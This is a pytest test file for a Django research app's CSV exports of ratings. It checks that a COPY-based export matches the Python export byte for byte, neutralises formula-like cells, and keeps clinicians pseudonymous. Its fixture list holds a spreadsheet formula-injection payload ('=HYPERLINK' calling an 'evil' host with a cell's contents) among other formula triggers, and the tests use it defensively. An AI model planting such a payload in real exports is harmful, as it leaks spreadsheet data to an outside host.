"""The COPY export writes byte for byte the CSV of the Python path, whatever the cells hold."""

from __future__ import annotations

import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from analysis import copy_export, export
from analysis.pseudonyms import UncodedClinician
from annotation.models import Conversation, Rater, RaterCode, Rating, Responder, Response, Score
from annotation.rater_codes import rater_codes_assign

AWKWARD = [
    '=HYPERLINK("http://evil/?"&A1)',
    "+1 and more",
    "-0.5",  # a number: left alone
    "@SUM(A1)",
    "\tindented",
    "\rcarriage",
    "line one\nline two",
    "crlf\r\nline",
    "lone\rcarriage return",
    'said "hello", then left',
    "Ｅmpathie ＝ 共感 — naïve café ✓",
    "＝full-width formula",
    "－３",
    " leading space",
    "\\.",
    "",
]


@pytest.fixture
def awkward_study(small_study):
    """small_study plus cells that need neutralising, quoting, or are empty or missing."""
    study = small_study.study
    study.name = "=Study ＋ é"
    study.save()
    attributes = list(study.rubric.attributes.order_by("position"))
    family = Responder.objects.create(key="m+x", name="M X", family='+fam, "quoted"')
    for i, text in enumerate(AWKWARD):
        conversation = Conversation.objects.create(
            study=study,
            external_id=text or f"blank-{i}",
            context="ctx",
            conditions=[] if i % 3 == 0 else ([text, "b;c"] if i % 3 == 1 else [""]),
            source=text,
        )
        response = Response.objects.create(conversation=conversation, responder=family, text="t")
        for rater, repeat in ((small_study.judges[i % 2], 0), (small_study.judges[0], 1)):
            rating = Rating.objects.create(
                rater=rater, response=response, status="complete", source="judge",
                rationale=text, repeat=repeat,
            )  # fmt: skip
            # Some attributes unscored: empty cells in the wide layout.
            Score.objects.bulk_create(
                Score(rating=rating, attribute=a, value=(i + j) % 5 + 1)
                for j, a in enumerate(attributes[: 1 + i % 7])
            )
    # A clinician whose name looks like a formula, imported (which gives their study code).
    odd = Rater.objects.create(kind=Rater.Kind.CLINICIAN, name="@dr odd")
    response = Response.objects.filter(conversation__study=study).first()
    rating = Rating.objects.create(
        rater=odd, response=response, status="complete", source="import", rationale="ok"
    )
    Score.objects.create(rating=rating, attribute=attributes[0], value=3)
    rater_codes_assign(study_id=study.pk, rater_ids=[odd.pk])
    return small_study


def _both(study, *, wide: bool, identified: bool) -> tuple[str, str, int, int]:
    python = export.wide_csv_python if wide else export.long_csv_python
    copy = export.wide_csv if wide else export.long_csv
    a, b = export.ExportCount(), export.ExportCount()
    text_python = "".join(python(study=study, count=a, identified=identified))
    text_copy = "".join(copy(study=study, count=b, identified=identified))
    assert a.done and b.done
    return text_python, text_copy, a.rows, b.rows


@pytest.mark.parametrize("wide", [False, True], ids=["long", "wide"])
@pytest.mark.parametrize("identified", [False, True], ids=["pseudonymous", "identified"])
def test_copy_export_is_byte_for_byte_the_python_export(awkward_study, wide, identified):
    text_python, text_copy, rows_python, rows_copy = _both(
        awkward_study.study, wide=wide, identified=identified
    )
    assert text_copy == text_python
    assert rows_copy == rows_python > len(AWKWARD)
    # The fixture really exercises what it claims to.
    assert "'=Study ＋ é" in text_copy and ",-0.5," in text_copy
    assert '"lone\rcarriage return"' in text_copy and "'＝full-width" in text_copy
    assert ("'@dr odd" in text_copy) == identified


def test_the_imported_clinician_goes_out_under_the_code_the_import_gave(awkward_study):
    text = "".join(export.long_csv(study=awkward_study.study))
    odd = RaterCode.objects.get(study=awkward_study.study, rater__name="@dr odd").code
    assert f",{odd},clinician," in text and "dr odd" not in text


@pytest.mark.parametrize("wide", [False, True], ids=["long", "wide"])
@pytest.mark.parametrize("path", ["copy", "python"])
def test_a_clinician_without_a_code_is_refused_and_nothing_is_written(awkward_study, wide, path):
    """A rating stored past every door that gives codes (a bug): the export neither shows the
    name nor hands out a code, it refuses."""
    study = awkward_study.study
    ghost = Rater.objects.create(kind=Rater.Kind.CLINICIAN, name="dr ghost")
    response = Response.objects.filter(conversation__study=study).first()
    rating = Rating.objects.create(
        rater=ghost, response=response, status="complete", source="import", rationale="ok"
    )
    Score.objects.create(rating=rating, attribute=study.rubric.attributes.first(), value=3)
    codes = RaterCode.objects.count()
    if path == "copy":
        write = export.wide_csv if wide else export.long_csv
    else:
        write = export.wide_csv_python if wide else export.long_csv_python
    with pytest.raises(UncodedClinician, match=f"clinician rater {ghost.pk} has no study code"):
        "".join(write(study=study))
    assert RaterCode.objects.count() == codes


def test_the_copy_export_yields_the_header_then_bounded_chunks(awkward_study, monkeypatch):
    monkeypatch.setattr(copy_export, "CHUNK_ROWS", 10)
    count = export.ExportCount()
    chunks = export.long_csv(study=awkward_study.study, count=count)
    assert next(chunks) == ",".join(export.LONG_COLUMNS) + "\n"
    assert count.rows == 0
    rest = list(chunks)
    assert len(rest) == -(-count.rows // 10) and count.done


def test_command_and_download_use_the_copy_path(awkward_study, researcher, client, tmp_path):
    expected = "".join(export.long_csv_python(study=awkward_study.study))
    out = tmp_path / "scores.csv"
    call_command(
        "export_ratings", "--study", awkward_study.study.name, "--out", str(out),
        stdout=io.StringIO(),
    )  # fmt: skip
    assert out.read_bytes() == expected.encode()
    client.force_login(researcher)
    url = reverse("analysis:ratings_csv", args=[awkward_study.study.pk])
    response = client.get(url + "?layout=wide")
    assert b"".join(response.streaming_content).decode() == "".join(
        export.wide_csv_python(study=awkward_study.study)
    )


def test_the_copy_export_works_under_the_debug_cursor(awkward_study, django_assert_max_num_queries):
    """DEBUG (and tests that count queries) wrap cursors in Django's debugging cursor, whose
    copy() takes no parameters: the COPY statement goes with its parameters already bound."""
    expected = "".join(export.long_csv_python(study=awkward_study.study))
    with django_assert_max_num_queries(20):
        text = "".join(export.long_csv(study=awkward_study.study))
    assert text == expected
